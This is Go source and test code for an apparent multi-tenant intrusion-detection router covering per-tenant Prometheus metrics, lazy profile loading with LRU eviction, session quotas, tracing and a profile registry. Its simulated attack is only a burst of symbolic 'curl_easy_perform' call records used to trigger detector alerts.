	if err := r.Observe("apph", "s1", traces[0]); err != nil {
		t.Fatal(err)
	}
	if err := r.Observe("ghost", "s1", traces[0]); !errors.Is(err, ErrUnknownTenant) {
		t.Fatalf("unpublished tenant: %v, want ErrUnknownTenant", err)
	}
	// Flush is a barrier: it completes only after the session's queued calls.
	if err := r.Flush("apph", "s1"); err != nil {
		t.Fatal(err)
	}
	st, ok := r.TenantStats("apph")
	if !ok || st.Runtime.Calls != uint64(len(traces[0])) {
		t.Fatalf("registry-loaded tenant stats: %+v resident=%v", st, ok)
	}
}

func TestLoaderFunc(t *testing.T) {
	p, _ := trainAppH(t)
	var gotID string
	l := LoaderFunc(func(id string) (*profile.Profile, error) {
		gotID = id
		return p, nil
	})
	got, err := l.LoadTenant("x")
	if err != nil || got != p || gotID != "x" {
		t.Fatalf("LoaderFunc: %v %v %q", got, err, gotID)
	}
}
