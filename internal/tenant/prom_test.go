package tenant

import (
	"bytes"
	"reflect"
	"strconv"
	"strings"
	"testing"

	"adprom/internal/metrics"
	"adprom/internal/profile"
	"adprom/internal/runtime"
)

// TestWriteTenantPrometheusCoversEveryCounter is the fleet flavour of the
// runtime's exposition guard, bidirectional: every CountersSnapshot field
// must be mapped in tenantMetric and rendered with a tenant label, and every
// tenantMetric entry must still name a live CountersSnapshot field. Adding a
// runtime counter without per-tenant exposition (or retiring one without
// pruning the map) fails here.
func TestWriteTenantPrometheusCoversEveryCounter(t *testing.T) {
	typ := reflect.TypeOf(metrics.CountersSnapshot{})
	for i := 0; i < typ.NumField(); i++ {
		name := typ.Field(i).Name
		if _, ok := tenantMetric[name]; !ok {
			t.Errorf("CountersSnapshot.%s has no entry in tenantMetric; extend the map and WritePrometheus", name)
		}
	}
	for name := range tenantMetric {
		if _, ok := typ.FieldByName(name); !ok {
			t.Errorf("tenantMetric maps %q, which is no longer a CountersSnapshot field", name)
		}
	}

	p, traces := trainAppH(t)
	r, err := NewRouter(Config{
		Static:         map[string]*profile.Profile{"alpha": p, "beta": p},
		RuntimeOptions: []runtime.Option{runtime.WithWorkers(2)},
	})
	if err != nil {
		t.Fatal(err)
	}
	defer r.Close()
	for _, tenant := range []string{"alpha", "beta"} {
		if err := r.Observe(tenant, "s1", attacked(traces[0])); err != nil {
			t.Fatal(err)
		}
		if err := r.Flush(tenant, "s1"); err != nil {
			t.Fatal(err)
		}
	}

	var buf bytes.Buffer
	if err := r.WritePrometheus(&buf); err != nil {
		t.Fatal(err)
	}
	out := buf.String()
	for field, family := range tenantMetric {
		if !strings.Contains(out, family) {
			t.Errorf("family %q (CountersSnapshot.%s) missing from exposition", family, field)
		}
	}
	for _, extra := range []string{
		"adprom_tenants_active", "adprom_tenant_loads_total",
		"adprom_tenant_evictions_total", "adprom_tenant_unknown_total",
		"adprom_tenant_quota_rejected_total", "adprom_tenant_generation",
		"adprom_tenant_queue_depth", "adprom_tenant_shed_rate",
	} {
		if !strings.Contains(out, extra) {
			t.Errorf("family %q missing from exposition", extra)
		}
	}
	// Every resident tenant appears as a label on the per-tenant families.
	for _, tenant := range []string{`tenant="alpha"`, `tenant="beta"`} {
		if n := strings.Count(out, tenant); n < len(tenantMetric) {
			t.Errorf("label %s appears %d times, want at least one per mapped family (%d)",
				tenant, n, len(tenantMetric))
		}
	}
	// Per-tenant calls must be attributed, not pooled: each tenant's
	// calls_total sample equals its own stream length.
	wantCalls := float64(len(attacked(traces[0])))
	for _, tenant := range []string{"alpha", "beta"} {
		needle := `adprom_tenant_calls_total{tenant="` + tenant + `"} `
		i := strings.Index(out, needle)
		if i < 0 {
			t.Fatalf("sample %q missing", needle)
		}
		rest := out[i+len(needle):]
		val := rest[:strings.IndexByte(rest, '\n')]
		got, err := strconv.ParseFloat(val, 64)
		if err != nil || got != wantCalls {
			t.Errorf("%s = %q, want %v", needle, val, wantCalls)
		}
	}
	// Exposition stays parseable: `name[{labels}] value` per sample line.
	for ln, line := range strings.Split(strings.TrimRight(out, "\n"), "\n") {
		if strings.HasPrefix(line, "#") {
			continue
		}
		sp := strings.LastIndexByte(line, ' ')
		if sp < 0 {
			t.Fatalf("line %d: no value separator: %q", ln+1, line)
		}
		if v := line[sp+1:]; v != "+Inf" {
			if _, err := strconv.ParseFloat(v, 64); err != nil {
				t.Fatalf("line %d: unparseable value %q: %v", ln+1, v, err)
			}
		}
	}
}
