package tenant

import (
	"io"
	"sort"

	"adprom/internal/detect"
	"adprom/internal/hmm"
	"adprom/internal/metrics"
	"adprom/internal/obsv"
)

// tenantMetric maps every metrics.CountersSnapshot field to the per-tenant
// Prometheus family its values are exported under (each sample carries a
// tenant label). Like the runtime's countersMetric, the map is held
// bidirectional by a reflection test: a counter added to CountersSnapshot
// without an entry here — and a rendering below — fails CI instead of
// silently missing per-tenant exposition, and a stale entry for a removed
// field fails the same test.
var tenantMetric = map[string]string{
	"Calls":          "adprom_tenant_calls_total",
	"Dropped":        "adprom_tenant_dropped_total",
	"Shed":           "adprom_tenant_shed_calls_total",
	"QueueHighWater": "adprom_tenant_queue_high_water",
	"Alerts":         "adprom_tenant_alerts_total",
	"ChannelAlerts":  "adprom_tenant_channel_alerts_total",
	"LatencyNanos":   "adprom_tenant_observe_latency_seconds_sum",
	"ActiveSessions": "adprom_tenant_active_sessions",
	"SessionsOpened": "adprom_tenant_sessions_opened_total",
	"Panics":         "adprom_tenant_panics_total",
	"WorkerRestarts": "adprom_tenant_worker_restarts_total",
	"Quarantined":    "adprom_tenant_quarantined_sessions_total",
	"SinkDropped":    "adprom_tenant_sink_dropped_total",
	"SinkPanics":     "adprom_tenant_sink_panics_total",
	"Swaps":          "adprom_tenant_profile_swaps_total",
	"EnginesRetired": "adprom_tenant_engines_retired_total",
	"Observe":        "adprom_tenant_observe_latency_seconds",
	"Flush":          "adprom_tenant_flush_latency_seconds",
	"SinkDelivery":   "adprom_tenant_sink_delivery_seconds",
}

// tenantSnap is one tenant's exposition input, snapshotted once per scrape.
type tenantSnap struct {
	id         string
	ctr        metrics.CountersSnapshot
	generation uint64
	queueDepth int
	shedRate   float64
}

// WritePrometheus renders the fleet's metrics in the Prometheus text
// exposition format: router-level counters (resident shards, loads,
// evictions, refusals) plus every shard's full counter set under
// {tenant="..."} labels — one family header per family, one labelled sample
// set per tenant, so dashboards slice any runtime metric by protected
// program.
func (r *Router) WritePrometheus(w io.Writer) error {
	r.mu.RLock()
	shards := make([]*Shard, 0, len(r.shards))
	for _, sh := range r.shards {
		shards = append(shards, sh)
	}
	r.mu.RUnlock()
	sort.Slice(shards, func(i, j int) bool { return shards[i].id < shards[j].id })
	snaps := make([]tenantSnap, 0, len(shards))
	for _, sh := range shards {
		ctr := sh.rt.CountersSnapshot()
		shedRate := 0.0
		if ctr.Shed > 0 {
			shedRate = float64(ctr.Shed) / float64(ctr.Shed+ctr.Calls)
		}
		depth := 0
		for _, d := range sh.rt.WorkerQueueDepths() {
			depth += d
		}
		snaps = append(snaps, tenantSnap{
			id:         sh.id,
			ctr:        ctr,
			generation: sh.rt.Generation(),
			queueDepth: depth,
			shedRate:   shedRate,
		})
	}

	p := obsv.NewPromWriter(w)
	rs := r.Stats()
	p.Gauge("adprom_tenants_active", "Tenant shards currently resident.", float64(rs.ActiveTenants))
	p.Counter("adprom_tenant_loads_total", "Tenant shards materialised (lazy loads).", float64(rs.Loads))
	p.Counter("adprom_tenant_evictions_total", "Tenant shards evicted by the LRU cap.", float64(rs.Evictions))
	p.Counter("adprom_tenant_unknown_total", "Routes refused for an unknown tenant.", float64(rs.UnknownTenant))
	p.Counter("adprom_tenant_quota_rejected_total", "Sessions refused by the per-tenant quota.", float64(rs.QuotaRejected))

	label := func(id string) [][2]string { return [][2]string{{"tenant", id}} }
	counter := func(field, help string, val func(tenantSnap) float64) {
		p.Family(tenantMetric[field], "counter", help)
		for _, s := range snaps {
			p.Sample(tenantMetric[field], label(s.id), val(s))
		}
	}
	gauge := func(field, help string, val func(tenantSnap) float64) {
		p.Family(tenantMetric[field], "gauge", help)
		for _, s := range snaps {
			p.Sample(tenantMetric[field], label(s.id), val(s))
		}
	}

	counter("Calls", "Calls scored, by tenant.", func(s tenantSnap) float64 { return float64(s.ctr.Calls) })
	counter("Dropped", "Calls shed under queue pressure or after session failure, by tenant.", func(s tenantSnap) float64 { return float64(s.ctr.Dropped) })
	counter("Shed", "Calls rejected by risk-aware admission, by tenant.", func(s tenantSnap) float64 { return float64(s.ctr.Shed) })
	gauge("QueueHighWater", "Lifetime maximum pending-call depth on any of the tenant's worker queues.", func(s tenantSnap) float64 { return float64(s.ctr.QueueHighWater) })

	p.Family(tenantMetric["Alerts"], "counter", "Alerts raised, by tenant and flag.")
	for _, s := range snaps {
		for f := 0; f < metrics.NumFlags; f++ {
			p.Sample(tenantMetric["Alerts"],
				[][2]string{{"tenant", s.id}, {"flag", detect.Flag(f).String()}},
				float64(s.ctr.Alerts[f]))
		}
	}

	p.Family(tenantMetric["ChannelAlerts"], "counter", "Alert provenance by tenant and detection channel (one alert can count against several).")
	for _, s := range snaps {
		for ch := 0; ch < metrics.NumChannels; ch++ {
			p.Sample(tenantMetric["ChannelAlerts"],
				[][2]string{{"tenant", s.id}, {"channel", detect.ChannelNames[ch]}},
				float64(s.ctr.ChannelAlerts[ch]))
		}
	}

	gauge("ActiveSessions", "Sessions currently open, by tenant.", func(s tenantSnap) float64 { return float64(s.ctr.ActiveSessions) })
	counter("SessionsOpened", "Sessions opened since shard load, by tenant.", func(s tenantSnap) float64 { return float64(s.ctr.SessionsOpened) })
	counter("Panics", "Panics recovered on the tenant's detection workers.", func(s tenantSnap) float64 { return float64(s.ctr.Panics) })
	counter("WorkerRestarts", "Supervised worker restarts, by tenant.", func(s tenantSnap) float64 { return float64(s.ctr.WorkerRestarts) })
	counter("Quarantined", "Sessions quarantined after a failure, by tenant.", func(s tenantSnap) float64 { return float64(s.ctr.Quarantined) })
	counter("SinkDropped", "Alert deliveries shed by the tenant's sink dispatcher.", func(s tenantSnap) float64 { return float64(s.ctr.SinkDropped) })
	counter("SinkPanics", "Panics recovered from the tenant's alert sink.", func(s tenantSnap) float64 { return float64(s.ctr.SinkPanics) })
	counter("Swaps", "Profile hot-swaps published, by tenant.", func(s tenantSnap) float64 { return float64(s.ctr.Swaps) })
	counter("EnginesRetired", "Engines discarded for being a generation behind, by tenant.", func(s tenantSnap) float64 { return float64(s.ctr.EnginesRetired) })

	// The per-tenant histograms carry LatencyNanos (= Observe.Sum) as their
	// _sum series, exactly like the single-runtime exposition.
	hist := func(field, help string, val func(tenantSnap) metrics.HistogramSnapshot) {
		p.Family(tenantMetric[field], "histogram", help)
		for _, s := range snaps {
			p.HistogramSamples(tenantMetric[field], label(s.id), val(s))
		}
	}
	hist("Observe", "Per-call engine scoring latency, by tenant.", func(s tenantSnap) metrics.HistogramSnapshot { return s.ctr.Observe })
	hist("Flush", "Flush/close op processing latency, by tenant.", func(s tenantSnap) metrics.HistogramSnapshot { return s.ctr.Flush })
	hist("SinkDelivery", "Alert delivery duration at the tenant's sink.", func(s tenantSnap) metrics.HistogramSnapshot { return s.ctr.SinkDelivery })

	p.Family("adprom_tenant_generation", "gauge", "Serving profile generation, by tenant.")
	for _, s := range snaps {
		p.Sample("adprom_tenant_generation", label(s.id), float64(s.generation))
	}
	p.Family("adprom_tenant_queue_depth", "gauge", "Calls waiting across the tenant's worker queues.")
	for _, s := range snaps {
		p.Sample("adprom_tenant_queue_depth", label(s.id), float64(s.queueDepth))
	}
	p.Family("adprom_tenant_shed_rate", "gauge", "Fraction of the tenant's offered calls rejected by risk-aware admission.")
	for _, s := range snaps {
		p.Sample("adprom_tenant_shed_rate", label(s.id), s.shedRate)
	}
	if err := p.Err(); err != nil {
		return err
	}
	// Shards share one process: Go runtime health and build provenance are
	// rendered once here, never per tenant.
	return obsv.WriteGoRuntimeProm(w, obsv.BuildInfo{ScorerDispatch: hmm.KernelName()})
}
