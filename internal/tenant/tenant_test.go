package tenant

import (
	"errors"
	"fmt"
	"sync"
	"testing"
	"time"

	"adprom/internal/collector"
	"adprom/internal/core"
	"adprom/internal/dataset"
	"adprom/internal/detect"
	"adprom/internal/hmm"
	"adprom/internal/profile"
	"adprom/internal/runtime"
	"adprom/internal/trace"
)

var appHOnce struct {
	sync.Once
	p      *profile.Profile
	traces []collector.Trace
	err    error
}

func trainAppH(t testing.TB) (*profile.Profile, []collector.Trace) {
	t.Helper()
	appHOnce.Do(func() {
		app := dataset.AppH()
		traces, err := app.CollectTraces(collector.ModeADPROM)
		if err != nil {
			appHOnce.err = err
			return
		}
		p, _, err := core.Train(app.Prog, traces, profile.Options{
			Train: hmm.TrainOptions{MaxIters: 6},
		})
		appHOnce.p, appHOnce.traces, appHOnce.err = p, traces, err
	})
	if appHOnce.err != nil {
		t.Fatal(appHOnce.err)
	}
	return appHOnce.p, appHOnce.traces
}

// attacked appends a foreign call burst so the stream alerts.
func attacked(tr collector.Trace) collector.Trace {
	out := append(collector.Trace{}, tr...)
	for i := 0; i < 6; i++ {
		out = append(out, collector.Call{
			Label: "curl_easy_perform", Name: "curl_easy_perform", Caller: "main",
		})
	}
	return out
}

// TestRouterObserveTraced checks the fleet tracing seam: an observe routed
// with wire trace context opens the decision trace on the tenant's shard,
// stamps the tenant, records the routing stage, and surfaces the finished
// trace through both Traces(tenant) and the cross-shard TraceByID lookup.
func TestRouterObserveTraced(t *testing.T) {
	p, traces := trainAppH(t)
	r, err := NewRouter(Config{
		Static: map[string]*profile.Profile{"apph": p},
		RuntimeOptions: []runtime.Option{
			runtime.WithWorkers(2),
			runtime.WithTracing(64, 1),
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	defer r.Close()

	tc := trace.Context{ID: "fleet-op-1", Remote: "10.1.2.3:999", Codec: "ndjson"}
	if err := r.ObserveTraced(tc, "apph", "s1", attacked(traces[0])); err != nil {
		t.Fatal(err)
	}

	var tr trace.Trace
	deadline := time.Now().Add(5 * time.Second)
	for {
		var ok bool
		if tr, ok = r.TraceByID("fleet-op-1"); ok {
			break
		}
		if time.Now().After(deadline) {
			t.Fatal("trace never committed")
		}
		time.Sleep(2 * time.Millisecond)
	}
	if tr.Tenant != "apph" || tr.Session != "s1" {
		t.Errorf("trace identity = tenant %q session %q", tr.Tenant, tr.Session)
	}
	if !tr.Alert {
		t.Error("attacked stream's trace not marked alert-bearing")
	}
	if tr.Spans[0].Stage != "ingest" {
		t.Errorf("root span stage = %q, want ingest", tr.Spans[0].Stage)
	}
	route := tr.Span("route")
	if route == nil {
		t.Fatal("no route span")
	}
	if a, ok := route.Attr("tenant"); !ok || a.Str != "apph" {
		t.Errorf("route span tenant attr = %+v", route.Attrs)
	}
	if tr.Span("score") == nil || tr.Span("admit") == nil {
		t.Errorf("trace missing pipeline spans: %+v", tr.Spans)
	}

	if got := r.Traces("apph", 0); len(got) == 0 {
		t.Error("Traces(apph) empty after a committed trace")
	}
	if got := r.Traces("ghost", 0); got != nil {
		t.Errorf("Traces on a non-resident tenant returned %d traces", len(got))
	}
	if _, ok := r.TraceByID("no-such-trace"); ok {
		t.Error("TraceByID found a trace that was never opened")
	}

	// A router whose shards trace nothing serves the same call untraced.
	r2, err := NewRouter(Config{Static: map[string]*profile.Profile{"apph": p}})
	if err != nil {
		t.Fatal(err)
	}
	defer r2.Close()
	if err := r2.ObserveTraced(tc, "apph", "s1", traces[0][:1]); err != nil {
		t.Fatal(err)
	}
	if got := r2.Traces("apph", 0); got != nil {
		t.Errorf("untraced shard retained %d traces", len(got))
	}
}

// TestRouterRoutesTenantsIndependently drives two tenants' streams through
// one router and checks each tenant's per-shard accounting saw exactly its
// own traffic.
func TestRouterRoutesTenantsIndependently(t *testing.T) {
	p, traces := trainAppH(t)
	r, err := NewRouter(Config{
		Static:         map[string]*profile.Profile{"alpha": p, "beta": p},
		RuntimeOptions: []runtime.Option{runtime.WithWorkers(2), runtime.WithQueueDepth(64)},
	})
	if err != nil {
		t.Fatal(err)
	}
	defer r.Close()

	alphaTrace, betaTrace := traces[0], attacked(traces[0])
	if err := r.Observe("alpha", "s1", alphaTrace); err != nil {
		t.Fatal(err)
	}
	if err := r.Observe("beta", "s1", betaTrace); err != nil {
		t.Fatal(err)
	}
	for _, tenant := range []string{"alpha", "beta"} {
		if err := r.CloseSession(tenant, "s1"); err != nil {
			t.Fatal(err)
		}
	}

	alpha, ok := r.TenantStats("alpha")
	if !ok {
		t.Fatal("alpha not resident")
	}
	beta, ok := r.TenantStats("beta")
	if !ok {
		t.Fatal("beta not resident")
	}
	if alpha.Runtime.Calls != uint64(len(alphaTrace)) {
		t.Errorf("alpha calls = %d, want %d", alpha.Runtime.Calls, len(alphaTrace))
	}
	if beta.Runtime.Calls != uint64(len(betaTrace)) {
		t.Errorf("beta calls = %d, want %d", beta.Runtime.Calls, len(betaTrace))
	}
	// The attacked stream alerts; its alerts must be accounted to beta only.
	if beta.Runtime.AlertTotal() == 0 {
		t.Error("attacked tenant raised no alerts")
	}
	if alpha.Runtime.AlertTotal() != 0 {
		t.Errorf("clean tenant charged %d alerts from its neighbour", alpha.Runtime.AlertTotal())
	}
	if got := r.Tenants(); len(got) != 2 || got[0] != "alpha" || got[1] != "beta" {
		t.Errorf("Tenants() = %v", got)
	}
}

// TestRouterAlertsMatchSingleTenantBaseline holds tenant serving to the
// paper's detection semantics: a stream scored through a shard produces the
// same judgement count as the sequential Monitor on the same profile.
func TestRouterAlertsMatchSingleTenantBaseline(t *testing.T) {
	p, traces := trainAppH(t)
	stream := attacked(traces[0])
	want := core.NewMonitor(p, nil).ObserveTrace(stream)

	var got []detect.Alert
	var mu sync.Mutex
	r, err := NewRouter(Config{
		Static: map[string]*profile.Profile{"alpha": p},
		RuntimeOptions: []runtime.Option{
			runtime.WithWorkers(2),
			runtime.WithAlertFunc(func(session string, a detect.Alert) {
				mu.Lock()
				got = append(got, a)
				mu.Unlock()
			}),
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	if err := r.Observe("alpha", "s1", stream); err != nil {
		t.Fatal(err)
	}
	if err := r.CloseSession("alpha", "s1"); err != nil {
		t.Fatal(err)
	}
	r.Close() // drains the sink dispatcher
	mu.Lock()
	defer mu.Unlock()
	if len(got) != len(want) {
		t.Fatalf("%d alerts through the shard, %d through the Monitor", len(got), len(want))
	}
}

func TestRouterUnknownTenant(t *testing.T) {
	p, _ := trainAppH(t)
	r, err := NewRouter(Config{Static: map[string]*profile.Profile{"alpha": p}})
	if err != nil {
		t.Fatal(err)
	}
	defer r.Close()
	if err := r.Observe("ghost", "s1", nil); !errors.Is(err, ErrUnknownTenant) {
		t.Fatalf("got %v, want ErrUnknownTenant", err)
	}
	if rs := r.Stats(); rs.UnknownTenant != 1 {
		t.Errorf("UnknownTenant = %d, want 1", rs.UnknownTenant)
	}
}

// TestRouterLazyLoadAndLRUEviction exercises the loader seam and the
// residency cap: the coldest tenant is evicted when a load pushes past
// MaxActive, its sessions drained, and a later route reloads it.
func TestRouterLazyLoadAndLRUEviction(t *testing.T) {
	p, traces := trainAppH(t)
	var loads []string
	var evicted []string
	var evictedCalls uint64
	r, err := NewRouter(Config{
		Loader: LoaderFunc(func(id string) (*profile.Profile, error) {
			loads = append(loads, id)
			return p, nil
		}),
		MaxActive: 2,
		OnEvict: func(id string, final runtime.Stats) {
			evicted = append(evicted, id)
			evictedCalls = final.Calls
		},
		RuntimeOptions: []runtime.Option{runtime.WithWorkers(1)},
	})
	if err != nil {
		t.Fatal(err)
	}
	defer r.Close()

	// t1 gets traffic so its final stats prove the drain saw it.
	if err := r.Observe("t1", "s", traces[0]); err != nil {
		t.Fatal(err)
	}
	if _, err := r.Shard("t2"); err != nil {
		t.Fatal(err)
	}
	// Touch t1 so t2 is now the coldest.
	if _, err := r.Shard("t1"); err != nil {
		t.Fatal(err)
	}
	if _, err := r.Shard("t3"); err != nil {
		t.Fatal(err)
	}
	if got := r.Tenants(); len(got) != 2 || got[0] != "t1" || got[1] != "t3" {
		t.Fatalf("resident after eviction: %v (want [t1 t3])", got)
	}
	if len(evicted) != 1 || evicted[0] != "t2" {
		t.Fatalf("evicted %v, want [t2]", evicted)
	}
	// Re-routing the evicted tenant reloads it (and evicts the new coldest).
	if _, err := r.Shard("t2"); err != nil {
		t.Fatal(err)
	}
	if len(loads) != 4 {
		t.Fatalf("loader calls: %v, want 4 loads (t1 t2 t3 t2)", loads)
	}
	rs := r.Stats()
	if rs.Loads != 4 || rs.Evictions != 2 || rs.ActiveTenants != 2 {
		t.Fatalf("router stats: %+v", rs)
	}

	// Evicting t1 drained its session: its final stats carried the calls.
	if evictedCalls != uint64(len(traces[0])) {
		t.Errorf("evicted t1 final calls = %d, want %d", evictedCalls, len(traces[0]))
	}
}

func TestRouterSessionQuota(t *testing.T) {
	p, _ := trainAppH(t)
	r, err := NewRouter(Config{
		Static:               map[string]*profile.Profile{"alpha": p, "beta": p},
		MaxSessionsPerTenant: 2,
	})
	if err != nil {
		t.Fatal(err)
	}
	defer r.Close()

	for _, s := range []string{"s1", "s2"} {
		if _, err := r.Session("alpha", s); err != nil {
			t.Fatal(err)
		}
	}
	// Re-fetching an existing session is not a new slot.
	if _, err := r.Session("alpha", "s1"); err != nil {
		t.Fatal(err)
	}
	if _, err := r.Session("alpha", "s3"); !errors.Is(err, ErrTenantQuota) {
		t.Fatalf("third session: %v, want ErrTenantQuota", err)
	}
	// The quota is per tenant: beta is unaffected by alpha's saturation.
	if _, err := r.Session("beta", "s1"); err != nil {
		t.Fatalf("beta blocked by alpha's quota: %v", err)
	}
	// Closing a session releases its slot.
	if err := r.CloseSession("alpha", "s1"); err != nil {
		t.Fatal(err)
	}
	if _, err := r.Session("alpha", "s3"); err != nil {
		t.Fatalf("after release: %v", err)
	}
	if rs := r.Stats(); rs.QuotaRejected != 1 {
		t.Errorf("QuotaRejected = %d, want 1", rs.QuotaRejected)
	}
}

func TestRouterSwapProfile(t *testing.T) {
	p, _ := trainAppH(t)
	r, err := NewRouter(Config{Static: map[string]*profile.Profile{"alpha": p}})
	if err != nil {
		t.Fatal(err)
	}
	defer r.Close()
	gen, err := r.SwapProfile("alpha", p)
	if err != nil {
		t.Fatal(err)
	}
	if gen < 2 {
		t.Fatalf("generation after swap = %d, want >= 2", gen)
	}
	st, _ := r.TenantStats("alpha")
	if st.Runtime.Swaps != 1 {
		t.Errorf("Swaps = %d, want 1", st.Runtime.Swaps)
	}
}

func TestRouterClose(t *testing.T) {
	p, _ := trainAppH(t)
	r, err := NewRouter(Config{Static: map[string]*profile.Profile{"alpha": p}})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := r.Shard("alpha"); err != nil {
		t.Fatal(err)
	}
	if err := r.Close(); err != nil {
		t.Fatal(err)
	}
	if err := r.Close(); err != nil {
		t.Fatalf("second close: %v", err)
	}
	if _, err := r.Shard("alpha"); !errors.Is(err, ErrClosed) {
		t.Fatalf("route after close: %v, want ErrClosed", err)
	}
	if err := r.Ready(); !errors.Is(err, ErrClosed) {
		t.Fatalf("Ready after close: %v, want ErrClosed", err)
	}
}

func TestNewRouterValidation(t *testing.T) {
	if _, err := NewRouter(Config{}); err == nil {
		t.Fatal("router with no profile source built without error")
	}
}

// BenchmarkTenantRoute holds the resident routing hot path to zero
// allocations: one read lock, one map probe, one atomic stamp.
func BenchmarkTenantRoute(b *testing.B) {
	p, _ := trainAppH(b)
	static := make(map[string]*profile.Profile)
	for i := 0; i < 16; i++ {
		static[fmt.Sprintf("tenant-%02d", i)] = p
	}
	r, err := NewRouter(Config{Static: static, RuntimeOptions: []runtime.Option{runtime.WithWorkers(1)}})
	if err != nil {
		b.Fatal(err)
	}
	defer r.Close()
	ids := make([]string, 0, len(static))
	for id := range static {
		ids = append(ids, id)
		if _, err := r.Shard(id); err != nil {
			b.Fatal(err)
		}
	}
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := r.Shard(ids[i%len(ids)]); err != nil {
			b.Fatal(err)
		}
	}
}
