package tenant

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"sync"

	"adprom/internal/lifecycle"
	"adprom/internal/profile"
)

// Registry is the on-disk profile store of a fleet: one lifecycle.Registry
// per tenant, rooted at <dir>/<tenant>/. It satisfies Loader, so a Router
// configured with it lazily loads each tenant's newest published generation
// on first route, and a lifecycle manager (or an operator) publishing into a
// tenant's subdirectory feeds that tenant's hot-swap watcher without
// touching any other tenant's lineage.
type Registry struct {
	dir string

	mu   sync.Mutex
	regs map[string]*lifecycle.Registry
}

// OpenRegistry opens (creating if needed) the fleet profile store rooted at
// dir.
func OpenRegistry(dir string) (*Registry, error) {
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return nil, fmt.Errorf("tenant: opening registry: %w", err)
	}
	return &Registry{dir: dir, regs: make(map[string]*lifecycle.Registry)}, nil
}

// Dir returns the registry's root directory.
func (r *Registry) Dir() string { return r.dir }

// TenantDir returns the directory holding one tenant's profile lineage —
// the path to hand a lifecycle WatchDir or an operator publishing
// generations.
func (r *Registry) TenantDir(tenant string) (string, error) {
	if err := checkTenantID(tenant); err != nil {
		return "", err
	}
	return filepath.Join(r.dir, tenant), nil
}

// checkTenantID refuses ids that would escape the registry root when used
// as a path element — tenant ids arrive over the network.
func checkTenantID(id string) error {
	if id == "" || id == "." || id == ".." ||
		strings.ContainsAny(id, "/\\") || strings.ContainsRune(id, 0) {
		return fmt.Errorf("tenant: invalid tenant id %q", id)
	}
	return nil
}

// registry returns (opening if needed) the per-tenant lifecycle registry.
func (r *Registry) registry(tenant string) (*lifecycle.Registry, error) {
	if err := checkTenantID(tenant); err != nil {
		return nil, err
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	if reg := r.regs[tenant]; reg != nil {
		return reg, nil
	}
	reg, err := lifecycle.OpenRegistry(filepath.Join(r.dir, tenant))
	if err != nil {
		return nil, err
	}
	r.regs[tenant] = reg
	return reg, nil
}

// LoadTenant loads the tenant's newest published generation, satisfying
// Loader. A tenant with no published generation is an error (wrapped by the
// router into ErrUnknownTenant).
func (r *Registry) LoadTenant(tenant string) (*profile.Profile, error) {
	reg, err := r.registry(tenant)
	if err != nil {
		return nil, err
	}
	latest, ok := reg.Latest()
	if !ok {
		return nil, errors.New("no published generations")
	}
	return reg.LoadEntry(latest)
}

// Publish persists p as tenant's next generation (1 for a fresh lineage),
// written atomically with a checksummed manifest entry.
func (r *Registry) Publish(tenant string, p *profile.Profile, source string) (lifecycle.Entry, error) {
	reg, err := r.registry(tenant)
	if err != nil {
		return lifecycle.Entry{}, err
	}
	gen := uint64(1)
	if latest, ok := reg.Latest(); ok {
		gen = latest.Generation + 1
	}
	return reg.Add(p, gen, source)
}

// Tenants lists the tenant ids with a registry subdirectory, sorted. Useful
// for preloading or dashboards; routing never needs it.
func (r *Registry) Tenants() ([]string, error) {
	entries, err := os.ReadDir(r.dir)
	if err != nil {
		return nil, fmt.Errorf("tenant: listing registry: %w", err)
	}
	out := make([]string, 0, len(entries))
	for _, e := range entries {
		if e.IsDir() {
			out = append(out, e.Name())
		}
	}
	sort.Strings(out)
	return out, nil
}
