// Package tenant turns the single-profile detection runtime into a fleet
// server: one Router serves many protected application programs at once,
// each behind its own profile shard.
//
// # Model
//
//   - A tenant is one monitored application program with its own trained
//     profile lineage — the paper's deployment unit. The Router keys tenants
//     by an operator-chosen id (typically the program name).
//   - Each live tenant is served by a Shard wrapping one runtime.Runtime:
//     its own worker pool, bounded ingest queues, drop/shed policy, engine
//     pool, stats, and hot-swap generation pointer. Isolation is therefore
//     structural — a noisy tenant saturates its own queues and its own shed
//     controller, never another tenant's.
//   - Profiles load lazily: the first call routed to a tenant materialises
//     its shard, fetching the profile from the static map or the configured
//     Loader (usually a Registry over per-tenant lifecycle stores). At most
//     MaxActive shards stay resident; loading one more evicts the
//     least-recently-routed shard, draining its sessions through
//     Runtime.Close before the slot is reused.
//   - Quotas bound each tenant's footprint: MaxSessionsPerTenant caps
//     concurrent sessions per shard (ErrTenantQuota past it), and the
//     per-shard queue depth / shed policy configured via RuntimeOptions
//     bounds its call backlog exactly as in the single-tenant runtime.
//
// # Hot path
//
// Route — the per-call tenant lookup — is allocation-free for a resident
// shard: one RWMutex read lock, one map probe, one atomic LRU stamp. The
// slow path (profile load, shard construction, eviction) is serialised on a
// separate mutex so it never blocks routing to resident tenants.
package tenant

import (
	"context"
	"errors"
	"fmt"
	"log/slog"
	"sort"
	"sync"
	"sync/atomic"
	"time"

	"adprom/internal/collector"
	"adprom/internal/obsv"
	"adprom/internal/profile"
	"adprom/internal/runtime"
	"adprom/internal/trace"
)

// Errors returned by the routing path; match with errors.Is.
var (
	// ErrUnknownTenant reports a tenant id with no static profile and no
	// Loader entry — the caller is streaming events for a program this fleet
	// does not protect.
	ErrUnknownTenant = errors.New("tenant: unknown tenant")
	// ErrTenantQuota reports a new session refused because the tenant is at
	// its MaxSessionsPerTenant cap. Existing sessions keep working.
	ErrTenantQuota = errors.New("tenant: session quota exceeded")
	// ErrClosed reports a route on a closed router.
	ErrClosed = errors.New("tenant: router closed")
)

// Loader resolves a tenant id to its trained profile — the lazy-load seam.
// LoadTenant runs on the routing slow path (first call for a non-resident
// tenant) and must be safe for concurrent use; a Registry over per-tenant
// lifecycle stores is the standard implementation.
type Loader interface {
	LoadTenant(id string) (*profile.Profile, error)
}

// LoaderFunc adapts a function to Loader.
type LoaderFunc func(id string) (*profile.Profile, error)

func (f LoaderFunc) LoadTenant(id string) (*profile.Profile, error) { return f(id) }

// Config configures a Router. Static and Loader compose: Static is
// consulted first, then Loader; a tenant in neither is ErrUnknownTenant.
type Config struct {
	// Static maps tenant ids to pre-trained profiles, resident from first
	// use. The map is read-only after NewRouter.
